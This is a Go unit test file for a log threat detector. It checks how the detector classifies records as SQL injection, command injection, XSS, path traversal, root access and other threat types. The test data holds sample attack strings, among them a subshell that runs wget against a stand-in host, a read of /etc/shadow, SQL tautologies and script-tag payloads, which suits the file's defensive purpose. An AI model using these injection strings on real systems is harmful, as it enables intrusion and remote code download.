package analyzer

import (
	"testing"

	"threatlens/internal/cvss"
	"threatlens/internal/parser"
)

func TestDetectSignatures(t *testing.T) {
	d := NewDetector()

	tests := []struct {
		name string
		rec  parser.Record
		want cvss.ThreatType
	}{
		{"SQL injection union select",
			parser.Record{Message: "GET /items?id=1 UNION SELECT password FROM users"},
			cvss.SQLInjection},
		{"SQL injection tautology",
			parser.Record{Message: "query: id=1' OR '1'='1"},
			cvss.SQLInjection},
		{"SQL injection tautology with closing quote",
			parser.Record{Message: "payload: name=' OR '1' = '1' ORDER BY id"},
			cvss.SQLInjection},
		{"Command injection semicolon",
			parser.Record{Message: "input rejected: name=; cat /etc/hosts"},
			cvss.CommandInjection},
		{"Command injection subshell",
			parser.Record{Message: "param=$(wget http://evil.example/x)"},
			cvss.CommandInjection},
		{"Malware keyword",
			parser.Record{Message: "trojan signature matched in uploaded archive"},
			cvss.Malware},
		{"Root access via identity field",
			parser.Record{Identity: "root", Message: "session opened"},
			cvss.RootAccess},
		{"Root access via sudo su",
			parser.Record{Message: "user bob ran sudo su on web01"},
			cvss.RootAccess},
		{"Critical level alert",
			parser.Record{Level: "CRITICAL", Message: "disk temperature exceeded limit"},
			cvss.CriticalAlert},
		{"Path traversal",
			parser.Record{Message: "GET /static/../../secret/config.yml"},
			cvss.PathTraversal},
		{"Path traversal encoded",
			parser.Record{Message: "GET /download?f=%2e%2e%2fsecret"},
			cvss.PathTraversal},
		{"Suspicious file access",
			parser.Record{Message: "open(/etc/shadow) by uid 1001"},
			cvss.SuspiciousFileAccess},
		{"XSS script tag",
			parser.Record{Message: "q=<script>alert(1)</script>"},
			cvss.XSS},
		{"Failed login text",
			parser.Record{Message: "authentication failure for account bob"},
			cvss.FailedLogin},
		{"Failed login via status code",
			parser.Record{Status: 401, Message: "GET /admin/panel"},
			cvss.FailedLogin},
		{"Port scanning tool",
			parser.Record{Message: "nmap probe detected on perimeter firewall"},
			cvss.PortScanning},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got, ok := d.Detect(&tt.rec)
			if !ok {
				t.Fatalf("Detect found nothing; want %s", tt.want)
			}
			if got != tt.want {
				t.Errorf("Detect = %s; want %s", got, tt.want)
			}
		})
	}
}

// A record matching several signatures is classified once, as the most
// severe match.
func TestDetectFirstMatchWins(t *testing.T) {
	d := NewDetector()

	tests := []struct {
		name string
		rec  parser.Record
		want cvss.ThreatType
	}{
		{"SQLi beats XSS",
			parser.Record{Message: "GET /search?q=<script>1 UNION SELECT 2</script>"},
			cvss.SQLInjection},
		{"Critical level beats failed login text",
			parser.Record{Level: "CRITICAL", Message: "failed login storm from subnet"},
			cvss.CriticalAlert},
		{"Root identity beats failed login",
			parser.Record{Identity: "root", Message: "failed password for root"},
			cvss.RootAccess},
		{"Malware beats path traversal",
			parser.Record{Message: "ransomware dropped at ../../tmp/payload"},
			cvss.Malware},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got, ok := d.Detect(&tt.rec)
			if !ok {
				t.Fatalf("Detect found nothing; want %s", tt.want)
			}
			if got != tt.want {
				t.Errorf("Detect = %s; want %s", got, tt.want)
			}
		})
	}
}

func TestDetectBenign(t *testing.T) {
	d := NewDetector()

	benign := []parser.Record{
		{Level: "INFO", Message: "nightly snapshot completed successfully"},
		{Status: 200, Message: "GET /index.html served in 12ms"},
		{Message: "cache warm finished, 4096 entries"},
	}

	for _, rec := range benign {
		if got, ok := d.Detect(&rec); ok {
			t.Errorf("Detect(%q) = %s; want no match", rec.Message, got)
		}
	}
}

func TestDetectUsesRequestFields(t *testing.T) {
	d := NewDetector()

	// Threat pattern only in Path, not in Message.
	rec := parser.Record{
		Message: "request blocked by WAF",
		Path:    "/app?q=<script>steal()</script>",
	}
	got, ok := d.Detect(&rec)
	if !ok || got != cvss.XSS {
		t.Errorf("Detect = %v, %v; want XSS via Path field", got, ok)
	}
}
